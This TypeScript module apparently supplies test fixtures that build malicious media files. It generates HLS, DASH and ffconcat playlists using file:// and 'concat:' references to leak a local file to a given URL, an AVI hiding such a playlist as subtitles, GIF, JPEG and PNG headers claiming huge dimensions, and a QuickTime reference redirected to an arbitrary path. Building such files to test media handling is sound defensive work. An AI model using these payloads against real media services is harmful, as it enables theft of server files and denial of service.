/** Files that were made to harm whoever opens them. Texts are written byte for byte, so none holds letters beyond Latin-1. */
export const bytesOf = (text: string): Buffer => Buffer.from(text, 'latin1');

const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const uint32Little = (value: number): Buffer => uint32(value).reverse();
const uint16 = (value: number): Buffer => uint32(value).subarray(2);

/** Where a file tries to lead. */
export interface Targets {
  /** Counts who comes. */
  readonly url: string;
  /** Of a local file that is nobody's business. */
  readonly path: string;
}

export const hlsPlaylist = ({ url, path }: Targets): string =>
  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nconcat:${url}/head|file://${path}\n#EXTINF:10,\nfile://${path}\n#EXTINF:10,\n${url}/segment.ts\n#EXT-X-ENDLIST\n`;

export const dashManifest = ({ url, path }: Targets): string =>
  `<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period>${[
    `${url}/sound.mp4`,
    `file://${path}`,
  ]
    .map(
      (address) =>
        `<AdaptationSet mimeType="audio/mp4"><Representation id="a" bandwidth="1"><BaseURL>${address}</BaseURL></Representation></AdaptationSet>`,
    )
    .join('')}</Period></MPD>`;

export const concatList = ({ url, path }: Targets): string =>
  `ffconcat version 1.0\nfile '${path}'\nfile '${url}/sound.mp3'\n`;

/** A session description: what to play comes from another machine. */
export const sessionDescription = ({ url }: Targets): string =>
  `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${new URL(url).port} RTP/AVP 0\n`;

const chunk = (name: string, content: Buffer): Buffer =>
  Buffer.concat([bytesOf(name), uint32Little(content.length), content, Buffer.alloc(content.length % 2)]);

/** An AVI whose subtitles are a playlist: some players open subtitles by what they look like. */
export function playlistInAvi(targets: Targets): Buffer {
  const subtitles = bytesOf(hlsPlaylist(targets));
  const packet = Buffer.concat([
    bytesOf('GAB2\0\x02\0'),
    uint32Little(0),
    Buffer.from([4, 0]),
    uint32Little(subtitles.length),
    subtitles,
  ]);
  const header = chunk(
    'avih',
    Buffer.concat([uint32Little(40_000), Buffer.alloc(20), uint32Little(1), Buffer.alloc(28)]),
  );
  const stream = Buffer.concat([
    chunk(
      'strh',
      Buffer.concat([bytesOf('txts'), Buffer.alloc(16), uint32Little(1), uint32Little(25), Buffer.alloc(28)]),
    ),
    chunk('strf', Buffer.alloc(0)),
  ]);
  const lists = [
    Buffer.concat([bytesOf('hdrl'), header, chunk('LIST', Buffer.concat([bytesOf('strl'), stream]))]),
    Buffer.concat([bytesOf('movi'), chunk('00tx', packet)]),
  ];
  return chunk('RIFF', Buffer.concat([bytesOf('AVI '), ...lists.map((list) => chunk('LIST', list))]));
}

/** A GIF that says it has one pixel, and whose first picture has so many a side: whoever draws it makes room for that. */
export const gifOfOnePixel = (side: number): Buffer => {
  const size = uint16(side).reverse();
  return Buffer.concat([
    bytesOf('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0'),
    ...[size, size],
    bytesOf('\0\x02\x02\x44\x01\0;'),
  ]);
};

/** A JPEG of arithmetic coding, which few read the head of, with the usual head of one pixel behind it. */
export const jpegOfOnePixel = (side: number): Buffer => {
  const frame = (kind: number, pixels: number): Buffer =>
    Buffer.concat([
      Buffer.from([0xff, kind, 0, 11, 8]),
      ...[uint16(pixels), uint16(pixels)],
      Buffer.from([1, 1, 0x11, 0]),
    ]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xdb, 0, 67, 0, ...Array.from({ length: 64 }, () => 1)]),
    frame(0xc9, side),
    Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0]),
    frame(0xc0, 1),
    Buffer.from([0xff, 0xd9]),
    Buffer.alloc(600),
  ]);
};

/** The beginning of a WAV file with something else behind it. */
export const behindWaveHeader = (content: string): Buffer =>
  Buffer.concat([
    bytesOf('RIFF'),
    uint32Little(36 + content.length),
    bytesOf('WAVEfmt '),
    uint32Little(16),
    Buffer.from([0xff, 0xff, 1, 0, 0x44, 0xac, 0, 0, 0x44, 0xac, 0, 0, 1, 0, 8, 0]),
    bytesOf(content),
  ]);

/** An ID3v2.3 tag with one frame. Sizes of tags have seven bits a byte. */
export function id3Tag(frame: string, content: Buffer): Buffer {
  const body = Buffer.concat([bytesOf(frame), uint32(content.length), Buffer.alloc(2), content]);
  const size = Buffer.from([21, 14, 7, 0].map((bits) => (body.length >> bits) & 0x7f));
  return Buffer.concat([bytesOf('ID3\x03\0\0'), size, body]);
}

/** A picture in a tag: what it claims to be, and so many bytes of nothing. */
export function id3Picture(kind: 'png' | 'jpeg', beginning: Buffer, size: number): Buffer {
  return id3Tag('APIC', Buffer.concat([bytesOf(`\0image/${kind}\0\x03\0`), beginning, Buffer.alloc(size)]));
}

/** A PNG as far as its header, of any width and height. */
export const pngHeader = (width: number, height: number): Buffer =>
  Buffer.concat([
    bytesOf('\x89PNG\r\n\x1a\n'),
    uint32(13),
    bytesOf('IHDR'),
    uint32(width),
    uint32(height),
    Buffer.from([8, 6, 0, 0, 0, 0, 0, 0, 0]),
  ]);

/** A FLAC file that says so many samples (up to 36 bits of them) whatever it holds; 0 says nothing. */
export function withFlacSamples(flac: Buffer, samples: number): Buffer {
  const changed = Buffer.from(flac);
  changed.writeUInt8((changed.readUInt8(21) & 0xf0) | Math.floor(samples / 2 ** 32), 21);
  changed.writeUInt32BE(samples % 2 ** 32, 22);
  return changed;
}

/** An mp3 with the header of a variable rate that says so many frames. */
export function withMp3Frames(mp3: Buffer, frames: number): Buffer {
  const changed = Buffer.from(mp3);
  const at = Math.max(changed.indexOf('Xing'), changed.indexOf('Info'));
  if (at < 0) throw new Error('this mp3 has no such header');
  changed.writeUInt32BE(frames, at + 8);
  return changed;
}

const containers = ['moov', 'trak', 'mdia', 'minf', 'dinf'];

/** Puts a QuickTime file's only sound into another file: its data reference becomes an alias of a path. */
export function withSoundElsewhere(movie: Buffer, path: string): Buffer {
  const boxes: Buffer[] = [];
  for (let at = 0; at < movie.length;) {
    const size = movie.readUInt32BE(at);
    const name = movie.toString('latin1', at + 4, at + 8);
    const content = movie.subarray(at + 8, at + size);
    const changed =
      name === 'dref' ? aliasReference(path) : containers.includes(name) ? withSoundElsewhere(content, path) : content;
    boxes.push(uint32(changed.length + 8), bytesOf(name), changed);
    at += size;
  }
  return Buffer.concat(boxes);
}

function aliasReference(path: string): Buffer {
  const padded = path.length % 2 === 0 ? path : `${path}\0`;
  const alias = Buffer.concat([
    Buffer.alloc(10),
    Buffer.from([1]),
    bytesOf('x'.padEnd(27, '\0')),
    Buffer.alloc(12),
    Buffer.from([1]),
    bytesOf('x'.padEnd(63, '\0')),
    Buffer.alloc(16),
    uint16(1),
    uint16(1),
    Buffer.alloc(16),
    uint16(2),
    uint16(path.length),
    bytesOf(padded),
    uint16(0xffff),
    uint16(0),
  ]);
  return Buffer.concat([uint32(0), uint32(1), uint32(alias.length + 12), bytesOf('alis'), uint32(0), alias]);
}
